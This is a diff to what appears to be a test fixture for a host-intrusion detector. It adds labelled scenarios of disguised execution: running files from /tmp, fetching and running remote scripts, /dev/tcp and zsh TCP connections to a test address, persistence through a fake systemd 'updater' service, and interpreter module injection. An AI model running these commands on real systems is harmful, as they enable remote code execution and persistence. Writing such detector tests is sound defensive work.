@@ -45,6 +45,19 @@ export const maliciousDisguiseScenarios = scenarios('malicious', 'disguise', [
   ['a step that hands over a file in /var/tmp', step('bash /var/tmp/a.sh')],
   ['a step that downloads from an address without a scheme', step('curl 203.0.113.9/a -o a; sh a')],
   ['a step that hides a network file in quotes', step("exec 3<>/dev/t''cp/203.0.113.9/443")],
+  ['a step that reads a file of /tmp', step('sh < /tmp/x')],
+  ['a step that pipes a file of /tmp', step('cat /tmp/x | sh')],
+  ['a step that runs what a file of /tmp says', step('$(cat /tmp/x)')],
+  ['a step that runs a file of /tmp under a condition', step('if true; then /tmp/x; fi')],
+  ['a step that runs a file of /tmp in a group', step('{ /tmp/x; }')],
+  ['a step that has find run a file of /tmp', step('find /srv -name x -exec /tmp/x {} +')],
+  ['a step that has the loader run a file of /tmp', step('/lib64/ld-linux-x86-64.so.2 /tmp/x')],
+  ['a step with code of awk', step('awk BEGIN{system("x")}')],
+  [
+    'a program out of /tmp among those of the host',
+    below('sh', 'sh -c cp /tmp/x /usr/sbin/updater; systemctl enable --now updater', 'python3'),
+  ],
+  ['an archive in /tmp', below('java', '/usr/bin/java -jar /tmp/a.jar', 'bash')],
   ['a step of zsh', step('zmodload zsh/net/tcp && ztcp 203.0.113.9 443')],
   ['a unit of an implant', named('diamorphine.service')],
   ["gsocket's unit", named('defunct.service')],
@@ -65,6 +78,44 @@ export const maliciousDisguiseScenarios = scenarios('malicious', 'disguise', [
 
 /** Quiet attacks behind such a disguise: nothing proves them, and nothing may excuse them. */
 export const quietDisguiseScenarios = scenarios('ambiguous', 'disguise', [
+  ['a step that runs what it fetched', step('curl https://x.example.net/a > a; sh a')],
+  ['a step that runs what it fetched beside it', step('wget https://x.example.net/a; ./a')],
+  ['a step that copies a file of /tmp home', step('cp /tmp/x ~/.local/bin/x; x')],
+  ['a step with /tmp in a variable', step('T=/tmp; $T/x')],
+  ['a step with a module for node', step('NODE_OPTIONS=--require=./x.js npm run deploy')],
+  [
+    "an extension of Azure's guest agent",
+    below('python3', '/usr/bin/python3 -u /usr/sbin/waagent -run-exthandlers', 'python3'),
+  ],
+  [
+    "what is called netplan and starts another's unit",
+    ran('root', 'systemctl start x', 'python3', '/usr/bin/python3 /usr/sbin/netplan apply', 'bash'),
+  ],
+  [
+    'what looks like the store of NixOS',
+    below(
+      'perl',
+      '/home/x/nix/store/3c4d-perl-5/bin/perl /home/x/nix/store/1-nixos-system-a/bin/switch-to-configuration',
+    ),
+  ],
+  [
+    "systemd's helper in another place",
+    below('bash', '/usr/bin/bash /usr/local/lib/systemd-update-helper system-reload', 'python3.9'),
+  ],
+  [
+    "Terraform's script below java",
+    ran('ubuntu', USER_ENABLE, 'sh', '/bin/sh /tmp/terraform_1928374655.sh', 'java'),
+  ],
+  [
+    "a JavaScript action in another's home",
+    ran(
+      'mallory',
+      USER_ENABLE,
+      'node',
+      '/home/alice/r/externals/node20/bin/node /home/alice/r/_work/_actions/a/index.js',
+      'Runner.Worker',
+    ),
+  ],
   ['perl with another search path', below('perl', `/usr/bin/perl -I/srv/lib ${DEB_INVOKE}`, 'sh')],
   ['perl with a module', below('perl', `/usr/bin/perl -MEvil ${DEB_INVOKE}`, 'sh')],
   ['perl with a debugger', below('perl', `/usr/bin/perl -wd:Evil ${DEB_INVOKE}`, 'sh')],
